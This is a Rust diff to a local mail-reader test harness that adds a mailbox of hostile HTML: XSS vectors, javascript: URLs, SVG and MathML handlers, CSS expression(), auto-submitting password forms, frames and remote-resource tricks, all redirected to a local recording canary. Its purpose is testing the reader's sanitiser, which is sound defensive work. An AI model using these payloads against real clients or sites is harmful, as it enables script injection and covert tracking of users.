@@ -3,7 +3,7 @@
 //!
 //! It prints one line, the control API's base URL, and runs until its standard input closes.
 //!
-//! Usage: `webpop-test-env [COUNT] [--web-root DIR] [--e2e-fixtures DIR]`
+//! Usage: `webpop-test-env [COUNT] [--web-root DIR] [--e2e-fixtures DIR] [--hostile-corpus FILE]`
 //! - `COUNT` (default 300): messages in the `browser` and `stls` mailboxes.
 //! - `--web-root DIR` (or `WEBPOP_TEST_ENV_WEB_ROOT`): the relay also serves `DIR` (the built
 //!   `dist/`) at `/`, so the web app and `/relay` are same-origin; `/env` then gives its URL as
@@ -14,11 +14,23 @@
 //!   127.0.0.1 and line endings made CRLF. The canary answers everything harmlessly and records
 //!   every request: mail that is shown must never reach it. Fixtures should carry newer dates
 //!   than the corpus (2023) so that they head the message list.
+//! - `--hostile-corpus FILE` (or `WEBPOP_TEST_ENV_HOSTILE_CORPUS`): adds the user `hostile` (same
+//!   password) whose mailbox runs the hostile-HTML corpus (`shared/tests/fixtures/hostile/
+//!   vectors.txt`: one vector a line, `#` comments, `{TAB}` `{LF}` `{CR}` `{FF}` `{NUL}` spelled
+//!   out) through the reader; also starts the canary. See [`hostile_mailbox`]: the vectors are
+//!   grouped into `text/html` messages (`HV01`, `HV02`, … in the subject), with every remote host
+//!   of the form `*.example` (after `//`, `\\`, `/\` or `\/`, with or without `http:`/`https:`)
+//!   rewritten to the canary's `127.0.0.1:port` over `http:`; plus one whole-document attack per
+//!   message (`HD01`, …: meta refresh, `<base href>`, forms, SVG, MathML, CSS, linked style
+//!   sheets, frames, objects, embeds, `srcset`, media, image inputs, backgrounds, `<a ping>`),
+//!   whose remote URLs all point at the canary under `/hd/<name>/`.
 //!
 //! Control API (CORS open, 127.0.0.1 only):
 //! - `GET /env`: JSON with the relay URL, POP3 ports, users and password, certificate
 //!   fingerprint; with the options above also `web`, `canary` and `e2e` (user, password, message
-//!   count, each fixture's file name and subject, the oldest message's subject).
+//!   count, each fixture's file name and subject, the oldest message's subject) and `hostile`
+//!   (user, password, vector count, and per message its subject, search token, kind and the
+//!   vectors it holds, by their 1-based number and line in the corpus file).
 //! - `GET /canary`: JSON list of the requests the canary has seen (method, path, headers of
 //!   interest), oldest first.
 //! - `GET /digests/{user}`: JSON list of the SHA-256 (hex) of every message in a mailbox.
@@ -59,6 +71,10 @@ const E2E_USER: &str = "e2e";
 const E2E_CORPUS: usize = 200;
 /// The placeholder in fixture files that becomes the canary's origin.
 const CANARY_PLACEHOLDER: &[u8] = b"CANARY";
+/// The hostile-HTML end-to-end tests' user (only with `--hostile-corpus`).
+const HOSTILE_USER: &str = "hostile";
+/// Vectors per message of the hostile mailbox, at most (plus one that may swallow the rest).
+const VECTORS_PER_MESSAGE: usize = 15;
 
 struct Env {
     dovecot: Dovecot,
@@ -67,6 +83,7 @@ struct Env {
     web_root: Option<PathBuf>,
     canary: Option<Canary>,
     e2e: Option<Value>,
+    hostile: Option<Value>,
 }
 
 #[derive(Debug, Default)]
@@ -74,6 +91,7 @@ struct Options {
     count: Option<usize>,
     web_root: Option<PathBuf>,
     e2e_fixtures: Option<PathBuf>,
+    hostile_corpus: Option<PathBuf>,
 }
 
 fn parse_args() -> Result<Options> {
@@ -82,6 +100,9 @@ fn parse_args() -> Result<Options> {
             .filter(|v| !v.is_empty())
             .map(PathBuf::from),
         e2e_fixtures: std::env::var_os("WEBPOP_TEST_ENV_E2E_FIXTURES")
+            .filter(|v| !v.is_empty())
+            .map(PathBuf::from),
+        hostile_corpus: std::env::var_os("WEBPOP_TEST_ENV_HOSTILE_CORPUS")
             .filter(|v| !v.is_empty())
             .map(PathBuf::from),
         ..Options::default()
@@ -97,13 +118,17 @@ fn parse_args() -> Result<Options> {
                 .clone()
                 .or_else(|| args.next())
                 .map(PathBuf::from)
-                .with_context(|| format!("{name} wants a directory"))
+                .with_context(|| format!("{name} wants a path"))
         };
         match flag.as_str() {
             "--web-root" => o.web_root = Some(value("--web-root")?),
             "--e2e-fixtures" => o.e2e_fixtures = Some(value("--e2e-fixtures")?),
+            "--hostile-corpus" => o.hostile_corpus = Some(value("--hostile-corpus")?),
             "-h" | "--help" => {
-                println!("usage: webpop-test-env [COUNT] [--web-root DIR] [--e2e-fixtures DIR]");
+                println!(
+                    "usage: webpop-test-env [COUNT] [--web-root DIR] [--e2e-fixtures DIR] \
+                     [--hostile-corpus FILE]"
+                );
                 std::process::exit(0);
             }
             _ if o.count.is_none() && !arg.starts_with('-') => {
@@ -115,10 +140,13 @@ fn parse_args() -> Result<Options> {
             _ => bail!("unexpected argument {arg:?} (see --help)"),
         }
     }
-    for dir in [&mut o.web_root, &mut o.e2e_fixtures].into_iter().flatten() {
-        *dir = dir
+    for path in [&mut o.web_root, &mut o.e2e_fixtures, &mut o.hostile_corpus]
+        .into_iter()
+        .flatten()
+    {
+        *path = path
             .canonicalize()
-            .with_context(|| format!("no such directory: {}", dir.display()))?;
+            .with_context(|| format!("no such file or directory: {}", path.display()))?;
     }
     Ok(o)
 }
@@ -236,6 +264,428 @@ fn load_fixtures(dir: &std::path::Path, origin: &str) -> Result<Vec<(String, Vec
         .collect()
 }
 
+/// One whole-document attack of the hostile mailbox: a search token's suffix, a name, and the
+/// HTML (with `CANARY` for the canary's origin). Every remote URL is under `CANARY/hd/<name>/`.
+const HOSTILE_DOCUMENTS: &[(&str, &str)] = &[
+    (
+        "meta-refresh",
+        r#"<!DOCTYPE html><html><head>
+<meta http-equiv="refresh" content="0; url=CANARY/hd/meta-refresh/target">
+<meta http-equiv="refresh" content="1;url=javascript:top.__pwned='meta-refresh'">
+<meta http-equiv="Link" content="<CANARY/hd/meta-refresh/link-header.css>; rel=stylesheet">
+<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
+</head><body><h1>HDTOKEN: meta refresh</h1><p>This page would like to take you elsewhere.</p></body></html>"#,
+    ),
+    (
+        "base-href",
+        r#"<!DOCTYPE html><html><head><base href="CANARY/hd/base-href/"><base target="_top"></head>
+<body><h1>HDTOKEN: base href</h1>
+<img src="relative.png" alt="relative image"><img src="/absolute-path.png" alt="absolute path">
+<a href="relative-link">A relative link</a>
+<form action="relative-form"><input name="q"><button>Search</button></form>
+<script src="relative.js"></script></body></html>"#,
+    ),
+    (
+        "form-action",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: form action</h1>
+<form id="f" action="CANARY/hd/form-action/submit" method="post" target="_top">
+<input name="password" type="password" value="hunter2" autofocus onfocus="this.form.submit()">
+<input type="submit" value="Send the form">
+<button formaction="CANARY/hd/form-action/formaction">Send it elsewhere</button>
+<button formaction="javascript:top.__pwned='formaction'">Run the button</button>
+</form>
+<isindex action="CANARY/hd/form-action/isindex">
+<input form="f" type="image" src="CANARY/hd/form-action/input-image.png" alt="image submit">
+</body></html>"#,
+    ),
+    (
+        "svg-onload",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: SVG</h1>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="60" onload="top.__pwned='svg onload'">
+<script>top.__pwned = 'svg script'; alert('svg script')</script>
+<script href="CANARY/hd/svg-onload/script.js"></script>
+<image href="CANARY/hd/svg-onload/image.png" width="20" height="20"/>
+<image xlink:href="CANARY/hd/svg-onload/xlink-image.png" width="20" height="20"/>
+<use href="CANARY/hd/svg-onload/use.svg#x"/>
+<feImage href="CANARY/hd/svg-onload/feimage.png"/>
+<a xlink:href="javascript:top.__pwned='svg link'"><text x="0" y="50">SVG link</text></a>
+<animate attributeName="href" values="javascript:top.__pwned='animate'"/>
+<set attributeName="onmouseover" to="top.__pwned='set'"/>
+<foreignObject width="100" height="50"><body onload="top.__pwned='foreignObject'"><img src="CANARY/hd/svg-onload/foreign.png"></body></foreignObject>
+</svg></body></html>"#,
+    ),
+    (
+        "math-href",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: MathML</h1>
+<math href="javascript:top.__pwned='math href'"><mi>x</mi><mo>+</mo><mn>1</mn></math>
+<math><mi xlink:href="CANARY/hd/math-href/mi">y</mi></math>
+<math><maction actiontype="statusline#CANARY/hd/math-href/maction" xlink:href="javascript:top.__pwned='maction'">z</maction></math>
+<math><mtext><table><mglyph><style><img src="CANARY/hd/math-href/mglyph.png" onerror="top.__pwned='mglyph'"></style></mglyph></table></mtext></math>
+<math><annotation-xml encoding="text/html"><img src="CANARY/hd/math-href/annotation.png" onerror="top.__pwned='annotation'"></annotation-xml></math>
+</body></html>"#,
+    ),
+    (
+        "css",
+        r#"<!DOCTYPE html><html><head><style>
+@import url("CANARY/hd/css/import.css");
+@import 'CANARY/hd/css/import-quoted.css';
+@font-face { font-family: "Remote"; src: url(CANARY/hd/css/font.woff); }
+body { background-image: url(CANARY/hd/css/body-background.png); font-family: "Remote", serif; }
+h1 { background: image-set(url(CANARY/hd/css/image-set.png) 1x); }
+.x { width: expression(top.__pwned = 'expression'); behavior: url(CANARY/hd/css/behavior.htc); }
+.y { background: u\72l(CANARY/hd/css/escaped.png); cursor: url(CANARY/hd/css/cursor.png), auto; }
+li { list-style-image: url(CANARY/hd/css/list-style.png); }
+</style></head><body><h1>HDTOKEN: CSS</h1>
+<div class="x y" style="background: url('CANARY/hd/css/inline.png'); border-image: url(CANARY/hd/css/border.png) 30;">Styled</div>
+<div style="background-image: url(&quot;CANARY/hd/css/entity-quoted.png&quot;)">Entities</div>
+<div style="@import 'CANARY/hd/css/inline-import.css'; width: expression(alert(1))">Import</div>
+<ul><li>A list item</li></ul>
+</body></html>"#,
+    ),
+    (
+        "link-stylesheet",
+        r#"<!DOCTYPE html><html><head>
+<link rel="stylesheet" href="CANARY/hd/link-stylesheet/style.css">
+<link rel="preload" as="image" href="CANARY/hd/link-stylesheet/preload.png">
+<link rel="prefetch" href="CANARY/hd/link-stylesheet/prefetch">
+<link rel="prerender" href="CANARY/hd/link-stylesheet/prerender">
+<link rel="modulepreload" href="CANARY/hd/link-stylesheet/module.js">
+<link rel="icon" href="CANARY/hd/link-stylesheet/icon.png">
+<link rel="import" href="CANARY/hd/link-stylesheet/import.html">
+<link rel="preconnect" href="CANARY/">
+</head><body><h1>HDTOKEN: linked style sheets</h1><p>Styled from afar.</p></body></html>"#,
+    ),
+    (
+        "iframe-srcdoc",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: frames</h1>
+<iframe srcdoc="&lt;script&gt;top.__pwned='srcdoc'; alert(1)&lt;/script&gt;&lt;img src='CANARY/hd/iframe-srcdoc/inner.png'&gt;"></iframe>
+<iframe src="CANARY/hd/iframe-srcdoc/src.html"></iframe>
+<iframe src="javascript:top.__pwned='iframe javascript'"></iframe>
+<iframe src="data:text/html,&lt;script&gt;top.__pwned='iframe data'&lt;/script&gt;"></iframe>
+<frameset><frame src="CANARY/hd/iframe-srcdoc/frame.html"></frameset>
+<portal src="CANARY/hd/iframe-srcdoc/portal.html"></portal>
+<fencedframe src="CANARY/hd/iframe-srcdoc/fenced.html"></fencedframe>
+</body></html>"#,
+    ),
+    (
+        "object-data",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: object</h1>
+<object data="CANARY/hd/object-data/data.html" type="text/html" width="50" height="50"></object>
+<object data="CANARY/hd/object-data/image.png" type="image/png"></object>
+<object type="application/x-shockwave-flash"><param name="movie" value="CANARY/hd/object-data/movie.swf"></object>
+<object data="javascript:top.__pwned='object'"></object>
+<applet code="X.class" codebase="CANARY/hd/object-data/applet/"></applet>
+</body></html>"#,
+    ),
+    (
+        "embed-src",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: embed</h1>
+<embed src="CANARY/hd/embed-src/embed.svg" type="image/svg+xml">
+<embed src="CANARY/hd/embed-src/embed.html">
+<embed src="javascript:top.__pwned='embed'">
+<embed code="CANARY/hd/embed-src/code.swf" allowscriptaccess="always">
+</body></html>"#,
+    ),
+    (
+        "img-srcset",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: remote images</h1>
+<p><img src="CANARY/hd/img-srcset/src.png" alt="A remote image"></p>
+<p><img srcset="CANARY/hd/img-srcset/1x.png 1x, CANARY/hd/img-srcset/2x.png 2x" alt="A srcset image"></p>
+<p><img src="CANARY/hd/img-srcset/with-srcset.png" srcset="CANARY/hd/img-srcset/w.png 100w" sizes="50px" alt="Src and srcset"></p>
+<p><picture><source srcset="CANARY/hd/img-srcset/picture-source.png"><img src="CANARY/hd/img-srcset/picture-img.png" alt="A picture"></picture></p>
+<p><img src="CANARY/hd/img-srcset/onerror.png" onerror="top.__pwned='img onerror'" alt="A handler"></p>
+<p><img src="CANARY/hd/img-srcset/lowsrc.png" lowsrc="CANARY/hd/img-srcset/lowsrc-attr.png" longdesc="CANARY/hd/img-srcset/longdesc" alt="Old attributes"></p>
+</body></html>"#,
+    ),
+    (
+        "video-poster",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: video</h1>
+<video poster="CANARY/hd/video-poster/poster.png" src="CANARY/hd/video-poster/src.mp4" autoplay preload="auto" width="120">
+<source src="CANARY/hd/video-poster/source.webm" type="video/webm">
+<track kind="captions" src="CANARY/hd/video-poster/track.vtt" default>
+</video>
+<video src="x" onerror="top.__pwned='video onerror'"></video>
+</body></html>"#,
+    ),
+    (
+        "audio-src",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: audio</h1>
+<audio src="CANARY/hd/audio-src/src.mp3" autoplay preload="auto" controls></audio>
+<audio autoplay><source src="CANARY/hd/audio-src/source.ogg" type="audio/ogg"></audio>
+<bgsound src="CANARY/hd/audio-src/bgsound.mid">
+</body></html>"#,
+    ),
+    (
+        "input-image",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: image input</h1>
+<input type="image" src="CANARY/hd/input-image/input.png" alt="An image button">
+<input type="IMAGE" src="javascript:top.__pwned='input image'">
+<button><img src="CANARY/hd/input-image/button-image.png" alt="In a button"></button>
+</body></html>"#,
+    ),
+    (
+        "body-background",
+        r#"<!DOCTYPE html><html><body background="CANARY/hd/body-background/body.png" onload="top.__pwned='body onload'">
+<h1>HDTOKEN: body background</h1><p>Wallpaper from afar.</p></body></html>"#,
+    ),
+    (
+        "table-background",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: table background</h1>
+<table background="CANARY/hd/table-background/table.png" width="200">
+<tr background="CANARY/hd/table-background/tr.png"><td background="CANARY/hd/table-background/td.png">A cell</td>
+<th background="CANARY/hd/table-background/th.png">A head</th></tr></table>
+<div background="CANARY/hd/table-background/div.png">A div</div>
+</body></html>"#,
+    ),
+    (
+        "a-ping",
+        r#"<!DOCTYPE html><html><body><h1>HDTOKEN: link with ping</h1>
+<p><a href="CANARY/hd/a-ping/followed" ping="CANARY/hd/a-ping/ping CANARY/hd/a-ping/ping2">Follow this link</a></p>
+<p><a href="javascript:top.__pwned='a href'">A script link</a></p>
+<p><area href="CANARY/hd/a-ping/area" ping="CANARY/hd/a-ping/area-ping"></p>
+</body></html>"#,
+    ),
+];
+
+/// The hostile mailbox for the corpus `text` (see the module docs), remote URLs at `canary`
+/// (an origin like `http://127.0.0.1:1234`). Returns the messages and their description for
+/// `/env`.
+fn hostile_mailbox(text: &str, canary: &str) -> Result<(Vec<Vec<u8>>, Value)> {
+    let host = canary
+        .strip_prefix("http://")
+        .context("the canary's origin is http://host:port")?;
+    // (1-based number, line in the file, the vector with its placeholders expanded)
+    let vectors: Vec<(usize, usize, String)> = text
+        .lines()
+        .enumerate()
+        .filter(|(_, l)| !l.is_empty() && !l.starts_with('#'))
+        .enumerate()
+        .map(|(n, (line, v))| {
+            let v = v
+                .replace("{TAB}", "\t")
+                .replace("{LF}", "\n")
+                .replace("{CR}", "\r")
+                .replace("{FF}", "\u{c}")
+                .replace("{NUL}", "\0");
+            (n + 1, line + 1, to_canary(&v, host))
+        })
+        .collect();
+    if vectors.is_empty() {
+        bail!("the hostile corpus has no vectors");
+    }
+    // A vector that leaves the parser swallowing what follows (inside a tag, a comment, a
+    // raw-text element or foreign content) goes last in its message, so that every other
+    // vector is still read as markup.
+    let (greedy, plain): (Vec<_>, Vec<_>) = vectors.iter().partition(|(_, _, v)| swallows(v));
+    let groups = plain
+        .len()
+        .div_ceil(VECTORS_PER_MESSAGE)
+        .max(greedy.len())
+        .max(1);
+    let per_group = plain.len().div_ceil(groups).max(1);
+    let mut chunks: Vec<Vec<&(usize, usize, String)>> =
+        plain.chunks(per_group).map(|c| c.to_vec()).collect();
+    chunks.resize(groups, Vec::new());
+    for (chunk, g) in chunks.iter_mut().zip(greedy) {
+        chunk.push(g);
+    }
+
+    let mut mail = Vec::new();
+    let mut listed = Vec::new();
+    for (i, chunk) in chunks.iter().enumerate() {
+        let token = format!("HV{:02}", i + 1);
+        let numbers: Vec<usize> = chunk.iter().map(|(n, _, _)| *n).collect();
+        let subject = format!(
+            "{token} hostile vectors {}",
+            numbers
+                .iter()
+                .map(usize::to_string)
+                .collect::<Vec<_>>()
+                .join(" ")
+        );
+        let mut html = format!(
+            "<!DOCTYPE html>\n<html><head><title>{token}</title></head><body>\n\
+             <h1>{token}: hostile vectors</h1>\n"
+        );
+        for (n, _, v) in chunk {
+            html.push_str(&format!("<div data-vector=\"{n}\">{v}</div>\n"));
+        }
+        html.push_str("</body></html>\n");
+        mail.push(hostile_message(&subject, mail.len(), &html));
+        listed.push(json!({
+            "token": token,
+            "subject": subject,
+            "kind": "vectors",
+            "vectors": numbers,
+            "lines": chunk.iter().map(|(_, line, _)| *line).collect::<Vec<_>>(),
+        }));
+    }
+    for (i, (name, html)) in HOSTILE_DOCUMENTS.iter().enumerate() {
+        let token = format!("HD{:02}", i + 1);
+        let subject = format!("{token} hostile document {name}");
+        let html = html.replace("HDTOKEN", &token).replace("CANARY", canary);
+        mail.push(hostile_message(&subject, mail.len(), &html));
+        listed.push(json!({
+            "token": token,
+            "subject": subject,
+            "kind": "document",
+            "name": name,
+            "canary_prefix": format!("/hd/{name}/"),
+        }));
+    }
+    let info = json!({
+        "user": HOSTILE_USER,
+        "password": PASSWORD,
+        "vectors": vectors.len(),
+        "count": mail.len(),
+        "messages": listed,
+    });
+    Ok((mail, info))
+}
+
+/// Whether the parser is left swallowing what follows `v`: inside a tag, an open comment, an
+/// open raw-text, RCDATA or plaintext element, or open foreign content or tables.
+fn swallows(v: &str) -> bool {
+    let low = v.to_ascii_lowercase();
+    if low.contains("<plaintext") || low.rfind('<') > low.rfind('>') {
+        return true;
+    }
+    if let Some(open) = low.rfind("<!--") {
+        if !low[open + 4..].contains("-->") {
+            return true;
+        }
+    }
+    const CONTAINERS: &[&str] = &[
+        "script", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title",
+        "svg", "math", "select", "table", "template", "frameset", "object",
+    ];
+    CONTAINERS.iter().any(|name| {
+        let opens = low
+            .match_indices(&format!("<{name}"))
+            .filter(|(i, _)| {
+                // `<svg` but not `<svgfoo`: the name ends at a space, `/`, `>` or a control.
+                low[i + name.len() + 1..]
+                    .chars()
+                    .next()
+                    .is_none_or(|c| !c.is_ascii_alphanumeric() && c != '-')
+            })
+            .count();
+        let closes = low.matches(&format!("</{name}")).count();
+        opens > closes
+    })
+}
+
+/// `v` with every remote host `*.example` (after `//`, `\\`, `/\` or `\/`; an `https:` before
+/// it becomes `http:`) replaced by `host` (the canary's `127.0.0.1:port`).
+fn to_canary(v: &str, host: &str) -> String {
+    let bytes = v.as_bytes();
+    let mut out = String::with_capacity(v.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let slashes = i + 1 < bytes.len()
+            && matches!(bytes[i], b'/' | b'\\')
+            && matches!(bytes[i + 1], b'/' | b'\\');
+        if slashes {
+            let start = i + 2;
+            let end = start
+                + bytes[start..]
+                    .iter()
+                    .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
+                    .count();
+            let name = v[start..end].to_ascii_lowercase();
+            if name.ends_with(".example") {
+                if out.to_ascii_lowercase().ends_with("https:") {
+                    out.truncate(out.len() - "https:".len());
+                    out.push_str("http:");
+                }
+                out.push_str(&v[i..start]);
+                out.push_str(host);
+                i = end;
+                continue;
+            }
+        }
+        let c = v[i..].chars().next().expect("in bounds");
+        out.push(c);
+        i += c.len_utf8();
+    }
+    out
+}
+
+/// A `text/html` message (base64, so that any byte of a vector survives) from the hostile
+/// mailbox, the `n`th: later ones are newer, so the list shows them in a fixed order.
+fn hostile_message(subject: &str, n: usize, html: &str) -> Vec<u8> {
+    let date = 1_769_904_000 + n as u64 * 3_600; // 2026-02-01T00:00:00Z + n hours
+    let mut m = format!(
+        "From: Hostile Sender <hostile@example.test>\r\n\
+         To: Hostile Tester <hostile@localhost>\r\n\
+         Subject: {subject}\r\n\
+         Date: {}\r\n\
+         Message-ID: <hostile-{n}@fixtures.webpop.test>\r\n\
+         MIME-Version: 1.0\r\n\
+         Content-Type: text/html; charset=utf-8\r\n\
+         Content-Transfer-Encoding: base64\r\n\r\n",
+        rfc2822(date)
+    )
+    .into_bytes();
+    let encoded = base64(html.as_bytes());
+    for line in encoded.as_bytes().chunks(76) {
+        m.extend_from_slice(line);
+        m.extend_from_slice(b"\r\n");
+    }
+    m
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
+    for chunk in bytes.chunks(3) {
+        let b = [
+            chunk[0],
+            chunk.get(1).copied().unwrap_or(0),
+            chunk.get(2).copied().unwrap_or(0),
+        ];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for k in 0..4 {
+            if k <= chunk.len() {
+                out.push(ALPHABET[(n >> (18 - 6 * k)) as usize & 63] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// `secs` since the Unix epoch as an RFC 2822 date in UTC.
+fn rfc2822(secs: u64) -> String {
+    const DAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
+    const MONTHS: [&str; 12] = [
+        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
+    ];
+    let days = secs / 86_400;
+    let rem = secs % 86_400;
+    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
+    let z = days as i64 + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + i64::from(month <= 2);
+    format!(
+        "{}, {:02} {} {} {:02}:{:02}:{:02} +0000",
+        DAYS[(days % 7) as usize],
+        day,
+        MONTHS[(month - 1) as usize],
+        year,
+        rem / 3_600,
+        rem % 3_600 / 60,
+        rem % 60
+    )
+}
+
 fn replace(haystack: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
     let mut out = Vec::with_capacity(haystack.len());
     let mut rest = haystack;
@@ -291,11 +741,13 @@ async fn env_json(State(env): State<Arc<Env>>) -> Json<Value> {
         .iter()
         .copied()
         .chain(env.e2e.as_ref().map(|_| E2E_USER))
+        .chain(env.hostile.as_ref().map(|_| HOSTILE_USER))
         .collect();
     Json(json!({
         "web": env.web_root.as_ref().map(|_| format!("http://{}/", env.relay_addr)),
         "canary": env.canary.as_ref().map(Canary::origin),
         "e2e": env.e2e,
+        "hostile": env.hostile,
         "relay": format!("ws://{}/relay", env.relay_addr),
         "host": "127.0.0.1",
         "server_name": "localhost",
@@ -358,12 +810,18 @@ async fn main() -> Result<()> {
     let full = corpus::generate(count, 2026);
     let small = corpus::generate(40, 7);
 
+    // The canary, when any mailbox points remote URLs at it.
+    let canary = if options.e2e_fixtures.is_some() || options.hostile_corpus.is_some() {
+        Some(Canary::start().await?)
+    } else {
+        None
+    };
+    let canary_origin = canary.as_ref().map(Canary::origin).unwrap_or_default();
     // The end-to-end mailbox: the corpus, then the fixtures (newest dates, last in POP3 order).
-    let (canary, e2e_mail, e2e) = match &options.e2e_fixtures {
-        None => (None, Vec::new(), None),
+    let (e2e_mail, e2e) = match &options.e2e_fixtures {
+        None => (Vec::new(), None),
         Some(dir) => {
-            let canary = Canary::start().await?;
-            let fixtures = load_fixtures(dir, &canary.origin())?;
+            let fixtures = load_fixtures(dir, &canary_origin)?;
             let mut mail = corpus::generate(E2E_CORPUS, 11);
             let oldest = subject(&mail[0]);
             let listed: Vec<Value> = fixtures
@@ -379,10 +837,21 @@ async fn main() -> Result<()> {
                 "fixtures": listed,
                 "oldest_subject": oldest,
             });
-            (Some(canary), mail, Some(info))
+            (mail, Some(info))
+        }
+    };
+    // The hostile-HTML mailbox: the vector corpus and the whole-document attacks.
+    let (hostile_mail, hostile) = match &options.hostile_corpus {
+        None => (Vec::new(), None),
+        Some(file) => {
+            let text = std::fs::read_to_string(file)
+                .with_context(|| format!("reading {}", file.display()))?;
+            let (mail, info) = hostile_mailbox(&text, &canary_origin)?;
+            (mail, Some(info))
         }
     };
     let with_e2e = e2e.is_some();
+    let with_hostile = hostile.is_some();
     let dovecot = tokio::task::spawn_blocking(move || {
         let mut users: Vec<(&str, &str, &[Vec<u8>])> = USERS
             .iter()
@@ -393,6 +862,9 @@ async fn main() -> Result<()> {
             .collect();
         if with_e2e {
             users.push((E2E_USER, PASSWORD, &e2e_mail));
+        }
+        if with_hostile {
+            users.push((HOSTILE_USER, PASSWORD, &hostile_mail));
         }
         Dovecot::start(&users)
     })
@@ -408,6 +880,7 @@ async fn main() -> Result<()> {
         web_root: options.web_root,
         canary,
         e2e,
+        hostile,
     });
     let app = Router::new()
         .route("/env", get(env_json))
@@ -432,4 +905,100 @@ async fn main() -> Result<()> {
         .await?;
     drop(env);
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn remote_hosts_of_the_corpus_point_at_the_canary() {
+        let host = "127.0.0.1:9";
+        assert_eq!(
+            to_canary(r#"<img src="https://tracker.example/a.gif?u=1">"#, host),
+            r#"<img src="http://127.0.0.1:9/a.gif?u=1">"#
+        );
+        assert_eq!(
+            to_canary("<img src=//tracker.example/p.gif>", host),
+            "<img src=//127.0.0.1:9/p.gif>"
+        );
+        assert_eq!(
+            to_canary("HTTP://TRACKER.EXAMPLE/upper.gif", host),
+            "HTTP://127.0.0.1:9/upper.gif"
+        );
+        assert_eq!(
+            to_canary(r"<a href=\\evil.example\share>", host),
+            r"<a href=\\127.0.0.1:9\share>"
+        );
+        assert_eq!(
+            to_canary("javascript://https://ok.example/%0aalert(1)", host),
+            "javascript://http://127.0.0.1:9/%0aalert(1)"
+        );
+        // Not remote hosts of the corpus: left alone.
+        for kept in [
+            "file:///etc/passwd",
+            "http://www.w3.org/2000/svg",
+            "intent://x#Intent",
+        ] {
+            assert_eq!(to_canary(kept, host), kept);
+        }
+    }
+
+    #[test]
+    fn vectors_that_swallow_what_follows_are_recognised() {
+        for greedy in [
+            "<plaintext><img src=x onerror=alert(1)>",
+            "<a onmouseover=alert(1)//",
+            "<svg><p><style><img src=x onerror=alert(1)>",
+            "<!-- <img src=x>",
+        ] {
+            assert!(swallows(greedy), "{greedy}");
+        }
+        for closed in [
+            "<script>alert(1)</script>",
+            "<svg onload=alert(1)></svg>",
+            "<!-- x --><img src=x>",
+            "<svgx>x",
+        ] {
+            assert!(!swallows(closed), "{closed}");
+        }
+    }
+
+    #[test]
+    fn the_hostile_mailbox_holds_every_vector_once() {
+        let corpus = "# c\n<b>1</b>\n<plaintext>\n<i>3</i>{TAB}\n\n<u>4</u>\n";
+        let (mail, info) = hostile_mailbox(corpus, "http://127.0.0.1:9").unwrap();
+        assert_eq!(info["vectors"], 4);
+        assert_eq!(mail.len(), 1 + HOSTILE_DOCUMENTS.len());
+        let first = &info["messages"][0];
+        assert_eq!(
+            first["vectors"],
+            json!([1, 3, 4, 2]),
+            "the greedy vector goes last"
+        );
+        assert_eq!(first["lines"], json!([2, 4, 6, 3]));
+        let html = webpop_shared::mime::display(&mail[0])
+            .unwrap()
+            .html
+            .unwrap();
+        assert!(html.contains("<div data-vector=\"3\"><i>3</i>\t</div>"));
+        assert!(html.ends_with("<div data-vector=\"2\"><plaintext></div>\n</body></html>\n"));
+        for (m, raw) in info["messages"].as_array().unwrap().iter().zip(&mail) {
+            assert_eq!(subject(raw), m["subject"].as_str().unwrap());
+            let text = String::from_utf8_lossy(raw);
+            assert!(!text.contains("CANARY") && !text.contains("HDTOKEN"));
+        }
+    }
+
+    #[test]
+    fn dates_and_base64_are_right() {
+        assert_eq!(rfc2822(1_769_904_000), "Sun, 01 Feb 2026 00:00:00 +0000");
+        assert_eq!(
+            rfc2822(951_782_400 + 3_723),
+            "Tue, 29 Feb 2000 01:02:03 +0000"
+        );
+        assert_eq!(base64(b"hello"), "aGVsbG8=");
+        assert_eq!(base64(b"hi!"), "aGkh");
+        assert_eq!(base64(b"a"), "YQ==");
+    }
 }
